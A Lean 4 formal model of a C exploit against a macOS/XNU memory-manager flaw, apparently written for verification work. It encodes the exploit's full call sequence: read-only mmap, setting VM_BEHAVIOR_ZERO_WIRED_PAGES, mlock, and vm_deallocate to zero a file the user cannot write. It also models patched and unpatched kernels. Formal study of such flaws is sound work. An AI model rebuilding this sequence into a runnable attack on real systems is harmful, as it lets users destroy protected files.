import Mathlib

namespace ZeroWiredPages

/-! ## Constants -/

/-- Source line 160: the macro PAGE_SIZE. -/
def PAGE_SIZE : Nat := 4096

/-- Source line 161: the macro EXPLOIT_SUCCESS. -/
def EXPLOIT_SUCCESS : Int := 0

/-- Source line 162: the macro EXPLOIT_FAILED. -/
def EXPLOIT_FAILED : Int := -1

/-- Platform header value of O_RDONLY (fcntl.h). -/
def O_RDONLY : Nat := 0

/-- Platform header value of PROT_READ (sys/mman.h). -/
def PROT_READ : Nat := 1

/-- Platform header value of PROT_WRITE (sys/mman.h). -/
def PROT_WRITE : Nat := 2

/-- Platform header value of MAP_FILE (sys/mman.h). -/
def MAP_FILE : Nat := 0

/-- Platform header value of MAP_SHARED (sys/mman.h). -/
def MAP_SHARED : Nat := 1

/-- Platform header value of MAP_FAILED (sys/mman.h): the pointer `(void * ) -1` as a 64-bit address. -/
def MAP_FAILED : Nat := 2 ^ 64 - 1

/-- Platform header value of KERN_SUCCESS (mach/kern_return.h). -/
def KERN_SUCCESS : Int := 0

/-- Platform header value of KERN_INVALID_ADDRESS (mach/kern_return.h). -/
def KERN_INVALID_ADDRESS : Int := 1

/-- Platform header value of VM_BEHAVIOR_ZERO_WIRED_PAGES (mach/vm_behavior.h). -/
def VM_BEHAVIOR_ZERO_WIRED_PAGES : Nat := 8

/-- Platform header value of S_IRUSR (sys/stat.h), octal 400. -/
def S_IRUSR : Nat := 256

/-- Platform header value of S_IWUSR (sys/stat.h), octal 200. -/
def S_IWUSR : Nat := 128

/-- Platform header value of S_IRGRP (sys/stat.h), octal 040. -/
def S_IRGRP : Nat := 32

/-- Platform header value of S_IROTH (sys/stat.h), octal 004. -/
def S_IROTH : Nat := 4

/-! ## Observable events -/

/-- The diagnostics the program prints, one constructor per `printf` of the source
(the argument of a `%s` or `%llx` conversion is kept where it is a program value). -/
inductive Msg where
  /-- Line 169, in map_file_page_ro: the open failed. -/
  | map_open_failed
  /-- Line 177, in map_file_page_ro: the mmap failed. -/
  | map_mmap_failed
  /-- Line 188, in verify_changes: the open failed. -/
  | verify_open_failed
  /-- Line 197, in verify_changes: the read returned nothing. -/
  | verify_read_failed
  /-- Line 210, in verify_changes: the verdict, modified or not. -/
  | verify_result (has_zeros : Bool)
  /-- Line 216. -/
  | exploit_start
  /-- Line 217. -/
  | exploit_target (path : String)
  /-- Line 224. -/
  | mapped_at (page : Nat)
  /-- Line 229. -/
  | snapshot_saved
  /-- Line 237. -/
  | behavior_set_failed (kr : Int)
  /-- Line 240. -/
  | behavior_set_ok
  /-- Line 246. -/
  | mlock_failed
  /-- Line 249. -/
  | mlock_ok
  /-- Line 256. -/
  | deallocate_failed (kr : Int)
  /-- Line 259. -/
  | deallocate_ok
  /-- Line 263. -/
  | exploit_succeeded
  /-- Line 266. -/
  | exploit_maybe_failed
  /-- Line 273. -/
  | creating_test_file (filename : String)
  /-- Line 278. -/
  | no_current_directory
  /-- Line 289. -/
  | cannot_create_test_file
  /-- Line 302. -/
  | cannot_set_read_only
  /-- Line 307. -/
  | test_file_created
  /-- Line 317. -/
  | banner
  /-- Line 320. -/
  | no_target_given
  /-- Line 323. -/
  | giving_up
  /-- Line 340. -/
  | test_file_deleted
  deriving DecidableEq, Repr

/-- A call made by the program, with its arguments: the platform calls, and the
three functions of the source that `exploit_vm_behavior` and `main` call. -/
inductive Call where
  | open_ (path : String) (oflag : Nat)
  | mmap (addr len prot flags : Nat) (fd : Int) (off : Nat)
  | close (fd : Int)
  | read (fd : Int) (nbyte : Nat)
  | memcpy (src n : Nat)
  | vm_behavior_set (addr size behavior : Nat)
  | mlock (addr len : Nat)
  | vm_deallocate (addr size : Nat)
  | realpath (path : String)
  | fopen (path mode : String)
  | fputc (c : Nat) (stream : Nat)
  | fclose (stream : Nat)
  | chmod (path : String) (mode : Nat)
  | unlink (path : String)
  | map_file_page_ro (path : String)
  | verify_changes (path : String) (content_size : Nat)
  | create_test_file (filename : String)
  deriving DecidableEq, Repr

/-- One entry of the trace: a completed call with the value it returned (a
pointer is recorded as its address, a null pointer as 0, a boolean as 0 or 1),
or a printed diagnostic. -/
inductive Event where
  | call (c : Call) (ret : Int)
  | printf (m : Msg)
  deriving DecidableEq, Repr

/-! ## The platform interface -/

/-- The platform calls the program makes, as functions on a platform state `W`.
Nothing is assumed about them: each may succeed or fail in any state.
`read` yields `none` for the return value -1 and otherwise the bytes
delivered; `load a w` is the byte a load from address `a` yields. -/
structure Platform (W : Type) where
  /-- The page size of the machine (the platform variable vm_page_size). -/
  vm_page_size : Nat
  open_ : String → Nat → W → Int × W
  close : Int → W → Int × W
  mmap : Nat → Nat → Nat → Nat → Int → Nat → W → Nat × W
  read : Int → Nat → W → Option (List Nat) × W
  load : Nat → W → Nat
  vm_behavior_set : Nat → Nat → Nat → W → Int × W
  mlock : Nat → Nat → W → Int × W
  vm_deallocate : Nat → Nat → W → Int × W
  realpath : String → W → Option String × W
  fopen : String → String → W → Option Nat × W
  fputc : Nat → Nat → W → Int × W
  fclose : Nat → W → Int × W
  chmod : String → Nat → W → Int × W
  unlink : String → W → Int × W

/-- The state of a run: the platform state and the trace so far, oldest first. -/
structure Run (W : Type) where
  world : W
  trace : List Event

variable {W : Type}

/-- Append a printed diagnostic to the trace. -/
def Run.printf (s : Run W) (m : Msg) : Run W :=
  { world := s.world, trace := s.trace ++ [Event.printf m] }

/-- Record a completed call: `r` is the result and the new platform state. -/
def invoke (c : Call) (r : Int × W) (s : Run W) : Int × Run W :=
  (r.1, { world := r.2, trace := s.trace ++ [Event.call c r.1] })

/-- Record the return of one of the program's own functions. -/
def Run.returned (s : Run W) (c : Call) (ret : Int) : Run W :=
  { world := s.world, trace := s.trace ++ [Event.call c ret] }

/-! ## The program -/

/-- Source lines 165-182. -/
def map_file_page_ro (P : Platform W) (path : String) (s : Run W) : Nat × Run W :=
  let o := invoke (Call.open_ path O_RDONLY) (P.open_ path O_RDONLY s.world) s
  let fd := o.1
  if fd = -1 then
    (MAP_FAILED, o.2.printf Msg.map_open_failed)
  else
    let m := P.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) fd 0 o.2.world
    let mapped_at := m.1
    let s1 : Run W :=
      { world := m.2
        trace := o.2.trace ++
          [Event.call (Call.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) fd 0) mapped_at] }
    let c := invoke (Call.close fd) (P.close fd s1.world) s1
    if mapped_at = MAP_FAILED then
      (MAP_FAILED, c.2.printf Msg.map_mmap_failed)
    else
      (mapped_at, c.2)

/-- The loop of source lines 203-208, started at index `i` with `fuel`
iterations allowed: `true` when it leaves through the `break`, `false` when a
loop condition fails. -/
def verify_scan (buffer : List Nat) (original_content : Nat → Nat) (bytes_read : Int)
    (content_size : Nat) : Nat → Nat → Bool
  | 0, _ => false
  | fuel + 1, i =>
    if (i : Int) < bytes_read ∧ i < content_size then
      if buffer.getD i 0 = 0 ∧ original_content i ≠ 0 then true
      else verify_scan buffer original_content bytes_read content_size fuel (i + 1)
    else false

/-- The buffer after `read(fd, buffer, nbyte)` and the value `read` returns:
the bytes delivered (at most `nbyte`) overwrite the start of the buffer. -/
def read_into (buffer : List Nat) (nbyte : Nat) : Option (List Nat) → Int × List Nat
  | none => (-1, buffer)
  | some data => (((data.take nbyte).length : Nat), data.take nbyte ++ buffer.drop (data.take nbyte).length)

/-- Source lines 185-212. The pointer `original_content` is the function from an
index to the byte stored there. -/
def verify_changes (P : Platform W) (path : String) (original_content : Nat → Nat)
    (content_size : Nat) (s : Run W) : Bool × Run W :=
  let o := invoke (Call.open_ path O_RDONLY) (P.open_ path O_RDONLY s.world) s
  let fd := o.1
  if fd = -1 then
    (false, o.2.printf Msg.verify_open_failed)
  else
    let r := P.read fd 128 o.2.world
    let rb := read_into (List.replicate 128 0) 128 r.1
    let bytes_read := rb.1
    let buffer := rb.2
    let s1 : Run W :=
      { world := r.2, trace := o.2.trace ++ [Event.call (Call.read fd 128) bytes_read] }
    let c := invoke (Call.close fd) (P.close fd s1.world) s1
    if bytes_read ≤ 0 then
      (false, c.2.printf Msg.verify_read_failed)
    else
      let has_zeros := verify_scan buffer original_content bytes_read content_size 128 0
      (has_zeros, c.2.printf (Msg.verify_result has_zeros))

/-- The 128 bytes `memcpy(original_content, page, 128)` copies out of the mapping. -/
def memcpy_from (P : Platform W) (page : Nat) (n : Nat) (w : W) : List Nat :=
  (List.range n).map (fun i => P.load (page + i) w)

/-- Source lines 215-269. -/
def exploit_vm_behavior (P : Platform W) (path : String) (s : Run W) : Int × Run W :=
  let s := (s.printf Msg.exploit_start).printf (Msg.exploit_target path)
  -- 1. map the file read-only
  let mp := map_file_page_ro P path s
  let page := mp.1
  let s := mp.2.returned (Call.map_file_page_ro path) page
  if page = MAP_FAILED then
    (EXPLOIT_FAILED, s)
  else
    let s := s.printf (Msg.mapped_at page)
    -- keep the original content for the verification
    let original_content := memcpy_from P page 128 s.world
    let s := (s.returned (Call.memcpy page 128) 0).printf Msg.snapshot_saved
    -- 2. set the behavior
    let b := invoke (Call.vm_behavior_set page PAGE_SIZE VM_BEHAVIOR_ZERO_WIRED_PAGES)
      (P.vm_behavior_set page PAGE_SIZE VM_BEHAVIOR_ZERO_WIRED_PAGES s.world) s
    let kr := b.1
    if kr ≠ KERN_SUCCESS then
      (EXPLOIT_FAILED, b.2.printf (Msg.behavior_set_failed kr))
    else
      let s := b.2.printf Msg.behavior_set_ok
      -- 3. lock the memory
      let l := invoke (Call.mlock page PAGE_SIZE) (P.mlock page PAGE_SIZE s.world) s
      let mlock_err := l.1
      if mlock_err ≠ 0 then
        (EXPLOIT_FAILED, l.2.printf Msg.mlock_failed)
      else
        let s := l.2.printf Msg.mlock_ok
        -- 4. deallocate: the trigger
        let d := invoke (Call.vm_deallocate page PAGE_SIZE)
          (P.vm_deallocate page PAGE_SIZE s.world) s
        let kr := d.1
        if kr ≠ KERN_SUCCESS then
          (EXPLOIT_FAILED, d.2.printf (Msg.deallocate_failed kr))
        else
          let s := d.2.printf Msg.deallocate_ok
          -- 5. verify
          let v := verify_changes P path (fun i => original_content.getD i 0) 128 s
          let s := v.2.returned (Call.verify_changes path 128) (if v.1 then 1 else 0)
          if v.1 then
            (EXPLOIT_SUCCESS, s.printf Msg.exploit_succeeded)
          else
            (EXPLOIT_FAILED, s.printf Msg.exploit_maybe_failed)

/-- The loop of source lines 295-297: `n` calls of `fputc` with the letter A. -/
def fputc_loop (P : Platform W) (stream : Nat) : Nat → Run W → Run W
  | 0, s => s
  | n + 1, s =>
    fputc_loop P stream n (invoke (Call.fputc 65 stream) (P.fputc 65 stream s.world) s).2

/-- Source lines 272-309. The result is the allocated full path, `none` for NULL. -/
def create_test_file (P : Platform W) (filename : String) (s : Run W) : Option String × Run W :=
  let s := s.printf (Msg.creating_test_file filename)
  let rp := P.realpath "." s.world
  let s : Run W :=
    { world := rp.2
      trace := s.trace ++ [Event.call (Call.realpath ".") (if rp.1.isSome then 1 else 0)] }
  match rp.1 with
  | none => (none, s.printf Msg.no_current_directory)
  | some path =>
    let full_path := path ++ "/" ++ filename
    let fo := P.fopen full_path "w" s.world
    let s : Run W :=
      { world := fo.2
        trace := s.trace ++ [Event.call (Call.fopen full_path "w") ((fo.1.getD 0 : Nat) : Int)] }
    match fo.1 with
    | none => (none, s.printf Msg.cannot_create_test_file)
    | some f =>
      let s := fputc_loop P f 0x8000 s
      let s := (invoke (Call.fclose f) (P.fclose f s.world) s).2
      let c := invoke (Call.chmod full_path (S_IRUSR ||| S_IRGRP ||| S_IROTH))
        (P.chmod full_path (S_IRUSR ||| S_IRGRP ||| S_IROTH) s.world) s
      if c.1 ≠ 0 then
        (none, c.2.printf Msg.cannot_set_read_only)
      else
        (some full_path, c.2.printf Msg.test_file_created)

/-- Source lines 312-346. `argv` is the argument vector, the program name first, so
`argc < 2` is the case of a list with fewer than two entries and `argv[1]` the
second entry. -/
def main (P : Platform W) (argv : List String) (s : Run W) : Int × Run W :=
  let s := s.printf Msg.banner
  match argv with
  | _ :: path :: _ =>
    -- a target was given: no test file, nothing to clean up
    exploit_vm_behavior P path s
  | _ =>
    let s := s.printf Msg.no_target_given
    let t := create_test_file P "test_file.txt" s
    let s := t.2.returned (Call.create_test_file "test_file.txt") (if t.1.isSome then 1 else 0)
    match t.1 with
    | none => (1, s.printf Msg.giving_up)
    | some test_file_path =>
      let e := exploit_vm_behavior P test_file_path s
      let result := e.1
      let c := invoke (Call.chmod test_file_path (S_IRUSR ||| S_IWUSR ||| S_IRGRP ||| S_IROTH))
        (P.chmod test_file_path (S_IRUSR ||| S_IWUSR ||| S_IRGRP ||| S_IROTH) e.2.world) e.2
      let u := invoke (Call.unlink test_file_path) (P.unlink test_file_path c.2.world) c.2
      if u.1 = 0 then
        (result, u.2.printf Msg.test_file_deleted)
      else
        (result, u.2)

/-- The exit status the parent process sees: the low eight bits of what `main` returns. -/
def exit_status (r : Int) : Int := r % 256

/-! ## A concrete platform

A model of the platform described in the header comment of the source: files
with content, mode bits and an owner; a descriptor table; a VM map whose
entries carry the `zero_wired_pages` flag and a wire count. Deleting a wired
entry whose flag is set zeroes the pages of the backing file, with no
permission check, unless the platform is patched. -/

/-- A plain file: its bytes, mode bits and owner. -/
structure FileNode where
  data : List Nat
  mode : Nat
  owner : Nat
  deriving DecidableEq, Repr

/-- An open descriptor. -/
structure OpenFile where
  fd : Int
  path : String
  oflag : Nat
  offset : Nat
  deriving DecidableEq, Repr

/-- An entry of the VM map: a region backed by the file at `path` from `offset`. -/
structure VMEntry where
  start : Nat
  size : Nat
  path : String
  offset : Nat
  prot : Nat
  zero_wired_pages : Bool
  wired_count : Nat
  deriving DecidableEq, Repr

/-- The state of the concrete platform, for one process of user `uid`. -/
structure World where
  uid : Nat
  cwd : String
  fs : List (String × FileNode)
  fds : List OpenFile
  streams : List (Nat × String)
  vm_map : List VMEntry
  deriving DecidableEq, Repr

/-- The file a path names, if any. -/
def fs_lookup (fs : List (String × FileNode)) (path : String) : Option FileNode :=
  match fs with
  | [] => none
  | (p, f) :: rest => if p = path then some f else fs_lookup rest path

/-- Replace the file a path names. -/
def fs_set (fs : List (String × FileNode)) (path : String) (g : FileNode) :
    List (String × FileNode) :=
  match fs with
  | [] => []
  | (p, f) :: rest => if p = path then (p, g) :: rest else (p, f) :: fs_set rest path g

/-- Remove the file a path names. -/
def fs_remove (fs : List (String × FileNode)) (path : String) : List (String × FileNode) :=
  match fs with
  | [] => []
  | (p, f) :: rest => if p = path then rest else (p, f) :: fs_remove rest path

/-- Read permission of user `uid` on a file (owner bits, else other bits; the
superuser may read anything). -/
def can_read (uid : Nat) (f : FileNode) : Bool :=
  uid = 0 || (if f.owner = uid then f.mode &&& S_IRUSR ≠ 0 else f.mode &&& S_IROTH ≠ 0)

/-- Write permission of user `uid` on a file. -/
def can_write (uid : Nat) (f : FileNode) : Bool :=
  uid = 0 || (if f.owner = uid then f.mode &&& S_IWUSR ≠ 0 else f.mode &&& 2 ≠ 0)

/-- Whether an open with access mode `oflag % 4` is permitted. -/
def open_permitted (uid : Nat) (f : FileNode) (oflag : Nat) : Bool :=
  match oflag % 4 with
  | 0 => can_read uid f
  | 1 => can_write uid f
  | 2 => can_read uid f && can_write uid f
  | _ => false

/-- A descriptor number not in use. -/
def next_fd : List OpenFile → Int
  | [] => 3
  | e :: rest => max (e.fd + 1) (next_fd rest)

/-- The entry of a descriptor. -/
def fd_lookup : List OpenFile → Int → Option OpenFile
  | [], _ => none
  | e :: rest, fd => if e.fd = fd then some e else fd_lookup rest fd

/-- Replace the entry of a descriptor. -/
def fd_set : List OpenFile → Int → OpenFile → List OpenFile
  | [], _, _ => []
  | e :: rest, fd, g => if e.fd = fd then g :: rest else e :: fd_set rest fd g

/-- Drop the entry of a descriptor. -/
def fd_remove : List OpenFile → Int → List OpenFile
  | [], _ => []
  | e :: rest, fd => if e.fd = fd then rest else e :: fd_remove rest fd

/-- Whether an address lies in an entry. -/
def VMEntry.covers (e : VMEntry) (a : Nat) : Bool :=
  e.start ≤ a && a < e.start + e.size

/-- The entry an address lies in. -/
def vm_lookup : List VMEntry → Nat → Option VMEntry
  | [], _ => none
  | e :: rest, a => if e.covers a then some e else vm_lookup rest a

/-- Replace the entry an address lies in. -/
def vm_set : List VMEntry → Nat → VMEntry → List VMEntry
  | [], _, _ => []
  | e :: rest, a, g => if e.covers a then g :: rest else e :: vm_set rest a g

/-- Delete the entry an address lies in. -/
def vm_remove : List VMEntry → Nat → List VMEntry
  | [], _ => []
  | e :: rest, a => if e.covers a then rest else e :: vm_remove rest a

/-- The lowest address the platform hands out for a mapping. -/
def USER_BASE : Nat := 0x100000000

/-- An address above every entry of the map. -/
def fresh_addr : List VMEntry → Nat
  | [] => USER_BASE
  | e :: rest => max (e.start + e.size) (fresh_addr rest)

/-- A length rounded up to whole pages. -/
def round_up (len page_size : Nat) : Nat :=
  if page_size = 0 then len else (len + page_size - 1) / page_size * page_size

/-- The bytes of a file with `n` bytes from offset `off` on set to zero (what
`pmap_zero_page` does to the pages of the file); the length does not change. -/
def zero_range : List Nat → Nat → Nat → List Nat
  | [], _, _ => []
  | b :: rest, 0, 0 => b :: rest
  | _ :: rest, 0, n + 1 => 0 :: zero_range rest 0 n
  | b :: rest, off + 1, n => b :: zero_range rest off n

/-- The `open` of the concrete platform. It never creates a file: a path that
names no file, or a file the user may not open this way, gives -1 and leaves
the state as it is. -/
def xnu_open (path : String) (oflag : Nat) (w : World) : Int × World :=
  match fs_lookup w.fs path with
  | none => (-1, w)
  | some f =>
    if open_permitted w.uid f oflag then
      (next_fd w.fds,
        { w with fds := { fd := next_fd w.fds, path := path, oflag := oflag, offset := 0 } :: w.fds })
    else (-1, w)

/-- The `close` of the concrete platform. -/
def xnu_close (fd : Int) (w : World) : Int × World :=
  match fd_lookup w.fds fd with
  | none => (-1, w)
  | some _ => (0, { w with fds := fd_remove w.fds fd })

/-- The `mmap` of the concrete platform, for file-backed mappings at an address
the platform chooses. A writable shared mapping needs a descriptor open for
writing; a read-only one does not. -/
def xnu_mmap (page_size : Nat) (_addr len prot flags : Nat) (fd : Int) (off : Nat) (w : World) :
    Nat × World :=
  match fd_lookup w.fds fd with
  | none => (MAP_FAILED, w)
  | some e =>
    if len = 0 then (MAP_FAILED, w)
    else if prot &&& PROT_WRITE ≠ 0 ∧ flags &&& MAP_SHARED ≠ 0 ∧ e.oflag % 4 = 0 then (MAP_FAILED, w)
    else if MAP_FAILED ≤ fresh_addr w.vm_map + round_up len page_size then (MAP_FAILED, w)
    else
      (fresh_addr w.vm_map,
        { w with vm_map :=
            { start := fresh_addr w.vm_map, size := round_up len page_size, path := e.path,
              offset := off, prot := prot, zero_wired_pages := false, wired_count := 0 } ::
              w.vm_map })

/-- The `read` of the concrete platform: the bytes from the descriptor's offset on. -/
def xnu_read (fd : Int) (nbyte : Nat) (w : World) : Option (List Nat) × World :=
  match fd_lookup w.fds fd with
  | none => (none, w)
  | some e =>
    if e.oflag % 4 = 1 then (none, w)
    else
      match fs_lookup w.fs e.path with
      | none => (none, w)
      | some f =>
        let data := (f.data.drop e.offset).take nbyte
        (some data, { w with fds := fd_set w.fds fd { e with offset := e.offset + data.length } })

/-- A load from an address: the byte of the backing file, zero past its end.
(A load from an address outside every entry, which faults on a real machine,
yields zero here.) -/
def xnu_load (a : Nat) (w : World) : Nat :=
  match vm_lookup w.vm_map a with
  | none => 0
  | some e =>
    match fs_lookup w.fs e.path with
    | none => 0
    | some f => f.data.getD (e.offset + (a - e.start)) 0

/-- The `vm_behavior_set` of the concrete platform: no check of the entry's
protection or of the backing object. -/
def xnu_vm_behavior_set (addr _size behavior : Nat) (w : World) : Int × World :=
  match vm_lookup w.vm_map addr with
  | none => (KERN_INVALID_ADDRESS, w)
  | some e =>
    if behavior = VM_BEHAVIOR_ZERO_WIRED_PAGES then
      (KERN_SUCCESS, { w with vm_map := vm_set w.vm_map addr { e with zero_wired_pages := true } })
    else (KERN_SUCCESS, w)

/-- The `mlock` of the concrete platform: wiring for reading is allowed on any entry. -/
def xnu_mlock (addr _len : Nat) (w : World) : Int × World :=
  match vm_lookup w.vm_map addr with
  | none => (-1, w)
  | some e =>
    (0, { w with vm_map := vm_set w.vm_map addr { e with wired_count := e.wired_count + 1 } })

/-- The `vm_deallocate` of the concrete platform. The entry is deleted; when it
is wired and its `zero_wired_pages` flag is set, an unpatched platform zeroes
the pages of the backing file first. -/
def xnu_vm_deallocate (patched : Bool) (addr _size : Nat) (w : World) : Int × World :=
  match vm_lookup w.vm_map addr with
  | none => (KERN_INVALID_ADDRESS, w)
  | some e =>
    if 0 < e.wired_count ∧ e.zero_wired_pages = true ∧ patched = false then
      match fs_lookup w.fs e.path with
      | none => (KERN_SUCCESS, { w with vm_map := vm_remove w.vm_map addr })
      | some f =>
        (KERN_SUCCESS,
          { w with
            vm_map := vm_remove w.vm_map addr
            fs := fs_set w.fs e.path { f with data := zero_range f.data e.offset e.size } })
    else (KERN_SUCCESS, { w with vm_map := vm_remove w.vm_map addr })

/-- The `realpath` of the concrete platform, for the current directory. -/
def xnu_realpath (path : String) (w : World) : Option String × World :=
  if path = "." then (some w.cwd, w) else (some path, w)

/-- A stream handle not in use. -/
def next_stream : List (Nat × String) → Nat
  | [] => 1
  | e :: rest => max (e.1 + 1) (next_stream rest)

/-- The path of a stream. -/
def stream_lookup : List (Nat × String) → Nat → Option String
  | [], _ => none
  | e :: rest, h => if e.1 = h then some e.2 else stream_lookup rest h

/-- The `fopen` of the concrete platform, for writing: the file is created, or
truncated when the user may write it. -/
def xnu_fopen (path _mode : String) (w : World) : Option Nat × World :=
  match fs_lookup w.fs path with
  | none =>
    (some (next_stream w.streams),
      { w with
        fs := (path, { data := [], mode := 420, owner := w.uid }) :: w.fs
        streams := (next_stream w.streams, path) :: w.streams })
  | some f =>
    if can_write w.uid f then
      (some (next_stream w.streams),
        { w with
          fs := fs_set w.fs path { f with data := [] }
          streams := (next_stream w.streams, path) :: w.streams })
    else (none, w)

/-- The `fputc` of the concrete platform: one byte appended to the file of the stream. -/
def xnu_fputc (c stream : Nat) (w : World) : Int × World :=
  match stream_lookup w.streams stream with
  | none => (-1, w)
  | some path =>
    match fs_lookup w.fs path with
    | none => (-1, w)
    | some f => ((c : Int), { w with fs := fs_set w.fs path { f with data := f.data ++ [c] } })

/-- The `fclose` of the concrete platform. -/
def xnu_fclose (stream : Nat) (w : World) : Int × World :=
  match stream_lookup w.streams stream with
  | none => (-1, w)
  | some _ => (0, { w with streams := w.streams.filter (fun e => e.1 ≠ stream) })

/-- The `chmod` of the concrete platform: the owner or the superuser may change the mode. -/
def xnu_chmod (path : String) (mode : Nat) (w : World) : Int × World :=
  match fs_lookup w.fs path with
  | none => (-1, w)
  | some f =>
    if w.uid = 0 ∨ f.owner = w.uid then
      (0, { w with fs := fs_set w.fs path { f with mode := mode } })
    else (-1, w)

/-- The `unlink` of the concrete platform. -/
def xnu_unlink (path : String) (w : World) : Int × World :=
  match fs_lookup w.fs path with
  | none => (-1, w)
  | some _ => (0, { w with fs := fs_remove w.fs path })

/-- The concrete platform with pages of `page_size` bytes, with the defect
(`patched = false`) or without it. -/
def xnu (page_size : Nat) (patched : Bool) : Platform World where
  vm_page_size := page_size
  open_ := xnu_open
  close := xnu_close
  mmap := xnu_mmap page_size
  read := xnu_read
  load := xnu_load
  vm_behavior_set := xnu_vm_behavior_set
  mlock := xnu_mlock
  vm_deallocate := xnu_vm_deallocate patched
  realpath := xnu_realpath
  fopen := xnu_fopen
  fputc := xnu_fputc
  fclose := xnu_fclose
  chmod := xnu_chmod
  unlink := xnu_unlink

/-- A process of user `uid` that has just started: nothing open, nothing mapped. -/
def World.boot (uid : Nat) (fs : List (String × FileNode)) : World :=
  { uid := uid, cwd := "/tmp", fs := fs, fds := [], streams := [], vm_map := [] }

/-- A run that starts in world `w` with an empty trace. -/
def Run.start (w : W) : Run W := { world := w, trace := [] }

/-! ## Reading a trace -/

/-- The stages of the orchestrator. -/
inductive Stage where
  | map
  | snapshot
  | behavior
  | lock
  | deallocate
  | verify
  deriving DecidableEq, Repr

/-- The stage an event invokes: the calls `exploit_vm_behavior` makes itself. -/
def Event.stage : Event → Option Stage
  | Event.call (Call.map_file_page_ro _) _ => some Stage.map
  | Event.call (Call.memcpy _ _) _ => some Stage.snapshot
  | Event.call (Call.vm_behavior_set _ _ _) _ => some Stage.behavior
  | Event.call (Call.mlock _ _) _ => some Stage.lock
  | Event.call (Call.vm_deallocate _ _) _ => some Stage.deallocate
  | Event.call (Call.verify_changes _ _) _ => some Stage.verify
  | _ => none

/-- The stages a trace invokes, in order. -/
def stages (tr : List Event) : List Stage := tr.filterMap Event.stage

/-- The order the orchestrator is meant to follow. -/
def stage_order : List Stage :=
  [Stage.map, Stage.snapshot, Stage.behavior, Stage.lock, Stage.deallocate, Stage.verify]

/-- A stage call whose result reports failure, as `exploit_vm_behavior` tests it. -/
def Event.failed : Event → Bool
  | Event.call (Call.map_file_page_ro _) r => r = (MAP_FAILED : Int)
  | Event.call (Call.vm_behavior_set _ _ _) r => r ≠ KERN_SUCCESS
  | Event.call (Call.mlock _ _) r => r ≠ 0
  | Event.call (Call.vm_deallocate _ _) r => r ≠ KERN_SUCCESS
  | _ => false

/-- A stage call whose result reports success (for the verifier: Modified). -/
def Event.succeeded : Event → Option Stage
  | Event.call (Call.map_file_page_ro _) r => if r = (MAP_FAILED : Int) then none else some Stage.map
  | Event.call (Call.memcpy _ _) _ => some Stage.snapshot
  | Event.call (Call.vm_behavior_set _ _ _) r => if r = KERN_SUCCESS then some Stage.behavior else none
  | Event.call (Call.mlock _ _) r => if r = 0 then some Stage.lock else none
  | Event.call (Call.vm_deallocate _ _) r =>
    if r = KERN_SUCCESS then some Stage.deallocate else none
  | Event.call (Call.verify_changes _ _) r => if r = 1 then some Stage.verify else none
  | _ => none

/-- Whether a trace holds a successful call of the given stage. -/
def stage_succeeded (st : Stage) (tr : List Event) : Bool :=
  tr.any (fun e => e.succeeded = some st)

/-- The stage a failure diagnostic names. -/
def Msg.failing_stage : Msg → Option Stage
  | Msg.map_open_failed => some Stage.map
  | Msg.map_mmap_failed => some Stage.map
  | Msg.behavior_set_failed _ => some Stage.behavior
  | Msg.mlock_failed => some Stage.lock
  | Msg.deallocate_failed _ => some Stage.deallocate
  | Msg.verify_open_failed => some Stage.verify
  | Msg.verify_read_failed => some Stage.verify
  | _ => none

/-- The stages the printed failure diagnostics of a trace name, in order. -/
def diagnosed (tr : List Event) : List Stage :=
  tr.filterMap (fun e => match e with
    | Event.printf m => m.failing_stage
    | _ => none)

/-- An event that asks for write access or changes a file: an open with any
flag but plain O_RDONLY, a mapping with PROT_WRITE, or one of the calls the
test-file scaffolding uses to create, fill, re-mode and delete a file. -/
def Event.requests_write : Event → Bool
  | Event.call (Call.open_ _ oflag) _ => oflag ≠ O_RDONLY
  | Event.call (Call.mmap _ _ prot _ _ _) _ => prot &&& PROT_WRITE ≠ 0
  | Event.call (Call.fopen _ _) _ => true
  | Event.call (Call.fputc _ _) _ => true
  | Event.call (Call.chmod _ _) _ => true
  | Event.call (Call.unlink _) _ => true
  | _ => false

/-- An `mmap` request: what was asked for and the address returned. -/
structure MmapRequest where
  len : Nat
  prot : Nat
  flags : Nat
  off : Nat
  ret : Int
  deriving DecidableEq, Repr

/-- The `mmap` requests of a trace. -/
def mmap_requests (tr : List Event) : List MmapRequest :=
  tr.filterMap (fun e => match e with
    | Event.call (Call.mmap _ len prot flags _ off) r =>
      some { len := len, prot := prot, flags := flags, off := off, ret := r }
    | _ => none)

/-- A region a memory-manager call is issued on. -/
structure RegionUse where
  stage : Stage
  addr : Int
  len : Nat
  deriving DecidableEq, Repr

/-- The regions the set-behavior, lock and deallocate calls of a trace are issued on. -/
def regions_used (tr : List Event) : List RegionUse :=
  tr.filterMap (fun e => match e with
    | Event.call (Call.vm_behavior_set addr size _) _ =>
      some { stage := Stage.behavior, addr := (addr : Int), len := size }
    | Event.call (Call.mlock addr len) _ =>
      some { stage := Stage.lock, addr := (addr : Int), len := len }
    | Event.call (Call.vm_deallocate addr size) _ =>
      some { stage := Stage.deallocate, addr := (addr : Int), len := size }
    | _ => none)

/-- The stages whose call reports failure in a trace. -/
def failed_stages (tr : List Event) : List Stage :=
  (tr.filter Event.failed).filterMap Event.stage

/-- The concrete platform for a process whose locked-memory limit is zero:
every `mlock` is refused. -/
def xnu_no_wiring (page_size : Nat) (patched : Bool) : Platform World :=
  { xnu page_size patched with mlock := fun _ _ w => (-1, w) }

/-! ## The program against scripted results -/

/-- The results of the platform calls of one run of `exploit_vm_behavior`, in the
order the calls are made (one that is not reached is not looked at), and the
verdict of the comparison loop. -/
structure Outcome where
  fd : Int
  mapped_at : Nat
  close_map : Int
  kr_behavior : Int
  mlock_err : Int
  kr_deallocate : Int
  verify_fd : Int
  bytes_read : Int
  close_verify : Int
  has_zeros : Bool

/-- What `map_file_page_ro` returns and appends to the trace when the platform
answers as `o` says. -/
def map_script (path : String) (o : Outcome) : Nat × List Event :=
  if o.fd = -1 then
    (MAP_FAILED, [Event.call (Call.open_ path O_RDONLY) o.fd, Event.printf Msg.map_open_failed])
  else if o.mapped_at = MAP_FAILED then
    (MAP_FAILED,
      [Event.call (Call.open_ path O_RDONLY) o.fd,
        Event.call (Call.mmap 0 PAGE_SIZE PROT_READ (MAP_FILE ||| MAP_SHARED) o.fd 0) o.mapped_at,
        Event.call (Call.close o.fd) o.close_map, Event.printf Msg.map_mmap_failed])
  else
    (o.mapped_at,
      [Event.call (Call.open_ path O_RDONLY) o.fd,
